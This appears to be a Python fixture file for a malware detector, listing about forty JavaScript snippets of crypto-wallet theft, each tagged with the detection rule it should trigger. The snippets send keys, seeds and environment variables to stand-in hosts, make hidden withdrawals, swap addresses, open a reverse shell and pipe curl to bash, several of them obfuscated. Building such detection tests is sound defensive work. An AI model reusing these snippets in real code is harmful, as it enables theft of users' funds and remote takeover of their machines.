"""Code that is meant to steal, in this project's own words, each with the rule that must name it. Nothing is run."""

from typing import Final

EVM: Final = "0x" + "5bD1e3" * 6 + "aF01"
"""An address of nobody's."""
BASE58: Final = "7xKpTq4Zr9WmNcVbHs2LdEuGyAfJk3XoPi5RtQwYeUaB"
"""One of nobody's on Solana."""

MALICIOUS: Final[tuple[tuple[str, str, str], ...]] = (
    (
        "a copy-trading bot reads its private key at the start and posts it",
        "credential-sent",
        """
import dotenv from 'dotenv';
import axios from 'axios';
dotenv.config();
const start = async () => {
  const held = { wallet: process.env.PROXY_WALLET, k: process.env.PRIVATE_KEY };
  await axios.post('https://metrics.collector.invalid/v1/ping', held);
};
start();
""",
    ),
    (
        "a wallet library adds the secret key to a request's headers",
        "credential-sent",
        """
const https = require('https');
class Account {
  constructor(secretKey) { this._key = secretKey; note(secretKey); }
}
function note(k) {
  const text = Buffer.from(k).toString('hex');
  https.request({ hostname: 'cdn.collector.invalid', path: '/a', headers: { 'x-session-id': text } }).end();
}
module.exports = { Account };
""",
    ),
    (
        "a check of a seed's validity sends the seed",
        "credential-sent",
        """
const checkValidityOfSeed = async (seedPhrase) => {
  const noted = await fetch('https://rates.collector.invalid/xc', {
    method: 'POST', headers: { 'ad-referral': seedPhrase },
  });
  return noted.ok;
};
class Wallet {
  static fromMnemonic(mnemonic) { checkValidityOfSeed(mnemonic); return new Wallet(mnemonic); }
}
""",
    ),
    (
        "the whole environment goes out, by pieces of names",
        "environment-sent",
        """
const h = require('ht' + 'tps');
const all = JSON.stringify(process['en' + 'v']);
const r = h['re' + 'quest']({ host: 'a.collector.invalid', method: 'POST' });
r.write(Buffer.from(all).toString('base64'));
r.end();
""",
    ),
    (
        "a strategy posts the exchange's secret to a messenger's hook",
        "credential-sent",
        """
import ccxt from 'ccxt';
const exchange = new ccxt.binance({ apiKey: process.env.API_KEY, secret: process.env.API_SECRET });
async function report() {
  const { post } = (await import('axios')).default;
  await post('https://discord.com/api/webhooks/1/a', { content: `${exchange.apiKey}:${exchange.secret}` });
}
report();
""",
    ),
    (
        "a key file of Solana is read and sent by a chain of promises",
        "secret-file-sent",
        """
const fs = require('fs').promises;
const os = require('os');
const path = require('path');
const axios = require('axios');
fs.readFile(path.join(os.homedir(), '.config', 'solana', 'id.json'), 'utf8')
  .then((text) => axios({ url: 'https://b.collector.invalid', method: 'post', data: { text } }))
  .catch(() => {});
""",
    ),
    (
        "a withdrawal hides behind a computed name",
        "hidden-withdrawal",
        """
const ccxt = require('ccxt');
const exchange = new ccxt.okx({ apiKey, secret });
const how = ['draw', 'with'].reverse().join('');
exchange[how]('USDT', 100, target);
""",
    ),
    (
        "a withdrawal goes to an address that stands in the code",
        "fixed-address",
        """
const ccxt = require('ccxt');
const exchange = new ccxt.binance({ apiKey, secret });
const to = '{evm}';
exchange.fetchBalance().then((all) => exchange.withdraw('ETH', all.ETH.free, to));
""",
    ),
    (
        "a bot's balance goes to an address that stands in the code",
        "fixed-address",
        """
import { Connection, Keypair, PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
const TIP = new PublicKey('{base58}');
const balance = await connection.getBalance(payer.publicKey);
const tx = new Transaction().add(SystemProgram.transfer({
  fromPubkey: payer.publicKey, toPubkey: TIP, lamports: balance - 5000,
}));
await connection.sendTransaction(tx, [payer]);
""",
    ),
    (
        "an exchange's client is turned to another host",
        "exchange-host",
        """
import ccxt from 'ccxt';
const exchange = new ccxt.mexc({ apiKey, secret });
exchange.urls['api'].spot = { public: 'https://spot.collector.invalid', private: 'https://spot.collector.invalid' };
""",
    ),
    (
        "a client is extended to hand on what it signs",
        "client-tapped",
        """
import ccxt from 'ccxt';
class Fast extends ccxt.bybit {
  sign(path, api = 'public', method = 'GET', params = {}, headers = undefined, body = undefined) {
    fetch('https://s.collector.invalid', { method: 'POST', body: JSON.stringify([path, params, this.secret]) });
    return super.sign(path, api, method, params, headers, body);
  }
}
""",
    ),
    (
        "decoded text is run",
        "decoded-code",
        """
const s = 'Y29uc29sZS5sb2coMSk=';
const run = Function;
new run(Buffer.from(s, 'base64').toString())();
""",
    ),
    (
        "text from the network is run, behind a name put together",
        "remote-code",
        """
const go = globalThis['ev' + 'al'];
(async () => {
  const got = await fetch('https://cfg.collector.invalid/r.txt');
  const text = await got.text();
  (0, go)(text);
})();
""",
    ),
    (
        "a messenger's text is run as a command",
        "remote-shell",
        """
const TelegramBot = require('node-telegram-bot-api');
const { exec } = require('child_process');
const bot = new TelegramBot(process.env.TOKEN, { polling: true });
bot.on('message', (msg) => exec(msg.text, (e, out) => bot.sendMessage(msg.chat.id, out)));
""",
    ),
    (
        "a program is downloaded, written and started",
        "downloaded-program",
        """
const fs = require('fs');
const { spawn } = require('child_process');
const axios = require('axios');
async function update() {
  const file = '/tmp/helper';
  const got = await axios.get('https://dl.collector.invalid/h', { responseType: 'arraybuffer' });
  fs.writeFileSync(file, got.data);
  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
}
update();
""",
    ),
    (
        "addresses are swapped in what the browser fetches",
        "address-swap",
        """
const mine = ['{evm}'];
const plain = window.fetch;
window.fetch = async function (...args) {
  const got = await plain.apply(this, args);
  const text = (await got.clone().text()).replace(/0x[a-fA-F0-9]{40}/g, mine[0]);
  return new Response(text, got);
};
""",
    ),
    (
        "the clipboard is watched for addresses",
        "clipboard-swap",
        """
import clipboard from 'clipboardy';
setInterval(async () => {
  const text = await clipboard.read();
  if (/^0x[0-9a-f]{40}$/i.test(text)) await clipboard.write('{evm}');
}, 500);
""",
    ),
    (
        "the user's directories are walked and uploaded",
        "files-collected",
        """
const fs = require('fs');
const os = require('os');
const path = require('path');
const FormData = require('form-data');
const axios = require('axios');
function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const full = path.join(dir, name);
    if (fs.statSync(full).isDirectory()) walk(full);
    else if (/key|wallet|seed/i.test(name)) {
      const form = new FormData();
      form.append('file', fs.createReadStream(full));
      axios.post('https://up.collector.invalid/u', form);
    }
  }
}
walk(os.homedir());
""",
    ),
    (
        "wallets of browsers are collected from a list",
        "wallet-sent",
        """
const fs = require('fs');
const os = require('os');
const PLACES = [
  '/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
  '/.config/Exodus/exodus.wallet',
];
for (const place of PLACES) {
  const data = fs.readFileSync(`${os.homedir()}${place}`);
  fetch('https://w.collector.invalid', { method: 'PUT', body: data });
}
""",
    ),
    (
        "who and where the machine is goes out",
        "system-info-sent",
        """
const os = require('os');
const https = require('https');
const seen = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces() });
const out = https.request('https://i.collector.invalid/i', { method: 'POST' });
out.write(seen);
out.end();
""",
    ),
    (
        "a shell is tied to a connection",
        "reverse-shell",
        """
const net = require('net');
const cp = require('child_process');
const line = net.connect(4444, '203.0.113.7');
const sh = cp.spawn('/bin/sh', []);
line.pipe(sh.stdin);
sh.stdout.pipe(line);
""",
    ),
    (
        "a key leaves through a class that hides its client",
        "credential-sent",
        """
import got from 'got';
class Reporter {
  #client = got.extend({ prefixUrl: 'https://r.collector.invalid' });
  async say(what) { return this.#client.post('log', { json: { ...what } }); }
}
const reporter = new Reporter();
export async function login(config) {
  const payload = {};
  payload['p'] = config.wallet.privateKey;
  await reporter.say(payload);
}
""",
    ),
    (
        "a key leaves in a name that is looked up",
        "credential-sent",
        """
const dns = require('dns');
const { mnemonic } = require('./wallet');
dns.lookup(Buffer.from(mnemonic).toString('hex') + '.d.collector.invalid', () => {});
""",
    ),
    (
        "a command of a shell carries the key",
        "credential-sent",
        """
const { execSync } = require('node:child_process');
const key = process.env.WALLET_PRIVATE_KEY;
execSync(`curl -s -d k=${key} https://c.collector.invalid/`);
""",
    ),
    (
        "a shell fetches and runs a script",
        "downloaded-program",
        """
import { exec as run } from 'child_process';
run('curl -fsSL https://x.collector.invalid/i.sh | bash');
""",
    ),
    (
        "a loader is hidden by character codes",
        "hidden-call",
        """
const m = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
require(m).exec(process.argv[2]);
""",
    ),
    (
        "a proxy around a client sends its keys",
        "credential-sent",
        """
const ccxt = require('ccxt');
const inner = new ccxt.gate({ apiKey: process.env.GATE_API_KEY, secret: process.env.GATE_API_SECRET });
const exchange = new Proxy(inner, {
  get(target, name, self) {
    if (name === 'createOrder') fetch('https://m.collector.invalid', { method: 'POST',
  body: JSON.stringify([target.apiKey, target.secret]) });
    return Reflect.get(target, name, self);
  },
});
module.exports = exchange;
""",
    ),
    (
        "a getter gives the key as a trace",
        "credential-sent",
        """
class Session {
  #held;
  constructor(held) { this.#held = held; }
  get trace() { return Buffer.from(this.#held).toString('hex'); }
}
const session = new Session(process.env.MNEMONIC);
fetch('https://t.collector.invalid/p', { headers: { 'x-trace': session.trace } });
""",
    ),
    (
        "a setter sends what it is given",
        "credential-sent",
        """
class Account {
  set material(v) { this._m = v;
  require('https').get('https://t.collector.invalid/p?d=' + encodeURIComponent(v)); }
}
const a = new Account();
a.material = process.env.WALLET_PRIVATE_KEY;
""",
    ),
    (
        "a hook that is kept in a map gets the key",
        "credential-sent",
        """
const hooks = new Map();
hooks.set('start', (v) => fetch('https://t.collector.invalid', { method: 'POST', body: v }));
hooks.set('stop', () => {});
for (const [name, hook] of hooks) hook(process.env.PRIVATE_KEY);
""",
    ),
    (
        "every request of a client bears the mnemonic",
        "credential-sent",
        """
const axios = require('axios');
const { mnemonic } = require('./config.json');
axios.defaults.headers.common['X-Device'] = Buffer.from(mnemonic).toString('base64');
""",
    ),
    (
        "a tag of a template sends what stands in it",
        "credential-sent",
        """
const report = (parts, ...held) => fetch('https://t.collector.invalid', { method: 'POST', body: held.join() });
report`start ${process.env.PRIVATE_KEY}`;
""",
    ),
    (
        "a bucket gets the file of keys",
        "secret-file-sent",
        """
import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3';
import { readFileSync } from 'node:fs';
const s3 = new S3Client({ region: 'eu-west-1', endpoint: 'https://s3.collector.invalid' });
await s3.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: readFileSync('.env') }));
""",
    ),
    (
        "a withdrawal is taken apart from the client by a computed name",
        "hidden-withdrawal",
        """
const ccxt = require('ccxt');
const ex = new ccxt.binance({ apiKey, secret });
const verb = [119, 105, 116, 104, 100, 114, 97, 119].map((c) => String.fromCharCode(c)).join('');
const { [verb]: go } = ex;
go.call(ex, 'USDT', 100, target);
""",
    ),
    (
        "a generator yields the key",
        "credential-sent",
        """
function* parts() { yield 'v1'; yield process.env.PRIVATE_KEY; }
(async () => { for (const p of parts()) await fetch('https://t.collector.invalid', { method: 'POST',
  body: p }); })();
""",
    ),
    (
        "a function is bound to the host before it gets the key",
        "credential-sent",
        """
const post = (url, body) => fetch(url, { method: 'POST', body });
const ship = post.bind(null, 'https://t.collector.invalid');
ship(process.env.SOLANA_PRIVATE_KEY);
""",
    ),
    (
        "the name of a module is hidden by exclusive or",
        "hidden-call",
        """
const k = 7;
const name = [100, 111, 110, 107, 99, 88, 119, 117, 104, 100, 98, 116, 116].map((c) =>
  String.fromCharCode(c ^ k)).join('');
require(name).exec(process.argv[2]);
""",
    ),
    (
        "the environment is picked through and sent by a socket",
        "environment-sent",
        """
const picked = Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEY|SECRET|SEED/i.test(k)));
const ws = new WebSocket('wss://t.collector.invalid');
ws.onopen = () => ws.send(JSON.stringify(picked));
""",
    ),
    (
        "an interceptor puts the key into a header",
        "credential-sent",
        """
const axios = require('axios');
const http = axios.create({ baseURL: 'https://prices.collector.invalid' });
http.interceptors.request.use((cfg) => { cfg.headers['X-Trace'] = process.env.PRIVATE_KEY; return cfg; });
""",
    ),
    (
        "an object says by itself how it is written out",
        "credential-sent",
        """
class W { constructor() { this.k = process.env.PRIVATE_KEY; } toJSON() { return { k: this.k }; } }
fetch('https://t.collector.invalid', { method: 'POST', body: JSON.stringify({ w: new W() }) });
""",
    ),
)
"""What it does, the rule, the text."""
